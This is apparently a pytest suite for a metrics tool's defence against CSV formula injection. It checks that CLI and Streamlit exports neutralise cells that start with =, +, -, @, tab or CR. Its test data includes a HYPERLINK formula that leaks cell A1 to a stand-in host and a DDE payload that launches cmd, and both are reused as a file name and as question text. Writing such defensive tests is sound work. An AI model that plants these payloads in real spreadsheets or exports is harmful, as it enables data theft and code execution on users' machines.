"""CSV formula injection (OWASP): every CSV the product writes, and every table a user can export from the screen,
carries text starting with = + - @ tab or CR as inert text; numbers stay numbers."""

from __future__ import annotations

import io
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest
from typer.testing import CliRunner

from cscp_metrics.cli.main import app as cli
from cscp_metrics.outputs.spreadsheet import safe_for_spreadsheet
from cscp_metrics.store import aggregates
from cscp_metrics.store import connection as store

APP = str(Path(__file__).resolve().parent.parent / "app.py")

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _unsafe_cells(frame: pd.DataFrame) -> list[str]:
    return [v for col in frame.columns for v in frame[col] if isinstance(v, str) and v.startswith(FORMULA_STARTS)]


def _csv_cells(text: str) -> list[str]:
    """Every cell as a spreadsheet would read it: as text, no type guessing."""
    frame = pd.read_csv(io.StringIO(text), dtype=str, keep_default_na=False)
    return [*frame.columns, *frame.to_numpy().ravel().tolist()]


@pytest.mark.parametrize("dtype", [object, "str", "string", "category"])
def test_text_columns_are_made_inert_whatever_their_dtype(dtype):
    frame = pd.DataFrame({"ward": pd.Series(HOSTILE + ["Kilburn"], dtype=dtype), "change": [-5, -0.5, 3, -1, 0, -2, 7]})
    safe = safe_for_spreadsheet(frame)
    assert [str(v) for v in safe["ward"]] == ["'" + v for v in HOSTILE] + ["Kilburn"]
    assert safe["change"].tolist() == [-5, -0.5, 3, -1, 0, -2, 7]  # negative numbers stay numbers
    assert pd.api.types.is_numeric_dtype(safe["change"])
    assert frame["ward"].tolist() == pd.Series(HOSTILE + ["Kilburn"], dtype=dtype).tolist()  # the input is untouched


def test_mixed_columns_keep_numbers_and_the_suppression_mark():
    frame = pd.DataFrame({"value": [12.5, "c", "=1+1"], "=name": [1, 2, 3]})
    safe = safe_for_spreadsheet(frame)
    assert safe["value"].tolist() == [12.5, "c", "'=1+1"]
    assert list(safe.columns) == ["value", "'=name"]


def test_cli_challenge_list_csv_is_inert(tmp_path):
    db = tmp_path / "s.duckdb"
    for question in HOSTILE:
        result = CliRunner().invoke(
            cli,
            [
                "challenge",
                "add",
                "--owner",
                "@Children and Families",
                "--db",
                str(db),
                "--",
                "re_referral_rate",
                "2019-20",
                f"{question} why?",
            ],
        )
        assert result.exit_code == 0, result.output
    result = CliRunner().invoke(cli, ["challenge", "list", "--format", "csv", "--db", str(db)])
    assert result.exit_code == 0, result.output
    cells = _csv_cells(result.stdout)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert cells.count("'@Children and Families") == len(HOSTILE)
    assert "'" + HOSTILE[0] + " why?" in cells


def test_cli_metric_csv_is_inert_and_keeps_the_figures(demo_copy):
    con = store.connect(demo_copy)
    child = con.execute(
        "SELECT child_id FROM referrals WHERE referral_date BETWEEN '2019-04-01' AND '2020-03-31' "
        "ORDER BY referral_id LIMIT 1"
    ).fetchone()[0]
    con.execute("UPDATE children SET ward = ? WHERE child_id = ?", [HOSTILE[0], child])
    aggregates.build(con)
    con.close()
    result = CliRunner().invoke(cli, ["metric", "referrals", "--by", "ward", "--format", "csv", "--db", str(demo_copy)])
    assert result.exit_code == 0, result.output
    frame = pd.read_csv(io.StringIO(result.stdout), dtype=str, keep_default_na=False)
    assert "'" + HOSTILE[0] in frame["breakdown_value"].tolist()
    assert not [c for c in _csv_cells(result.stdout) if c.startswith(FORMULA_STARTS)]
    assert frame.loc[frame["breakdown_value"] == "'" + HOSTILE[0], "numerator"].tolist() == ["1"]


def test_tables_on_screen_export_inert_text(demo_copy, tmp_path, monkeypatch):
    """Streamlit's own 'Download as CSV' exports what a table shows: a file name or a question typed by anyone
    must reach that table already made inert."""
    hostile_file = tmp_path / '=HYPERLINK("https:evil.example").csv'
    hostile_file.write_text("referral_id,child_id,referral_date,source\nX1,C000001,not-a-date,police\n")
    assert (
        CliRunner().invoke(cli, ["load", "--table", "referrals", "--db", str(demo_copy), str(hostile_file)]).exit_code
        == 1
    )
    assert (
        CliRunner()
        .invoke(
            cli,
            [
                "challenge",
                "add",
                "re_referral_rate",
                "2019-20",
                "+cmd|' /C calc'!A0 why?",
                "--owner",
                "-Police",
                "--db",
                str(demo_copy),
            ],
        )
        .exit_code
        == 0
    )
    monkeypatch.setenv("CSCP_DB", str(demo_copy))
    shown = []
    for page in ("data", "where-to-look", "definitions"):
        at = AppTest.from_file(APP, default_timeout=180)
        at.run()
        at.switch_page(f"pages/{page}.py").run()
        assert not at.exception, [e.value for e in at.exception]
        shown += [table.value for table in at.dataframe]
    cells = [v for frame in shown for col in frame.columns for v in frame[col]]
    assert "'" + hostile_file.name in cells and "'-Police" in cells
    assert not [frame for frame in shown if _unsafe_cells(frame)]


def test_a_command_closes_its_store_however_it_ends(demo_copy):
    """Run in-process, a read command that exits with an error kept its connection (held by the exit's traceback),
    and with it the file's configuration: a plain connect was refused until the result was gone."""
    import duckdb

    runner = CliRunner()
    ran = runner.invoke(cli, ["metric", "referrals", "--period", "2019-20", "--db", str(demo_copy)])
    refused = runner.invoke(cli, ["metric", "no_such_indicator", "--db", str(demo_copy)])
    assert ran.exit_code == 0 and refused.exit_code == 2, (ran.output, refused.output)
    duckdb.connect(str(demo_copy), read_only=True).close()  # no connection with another configuration is left
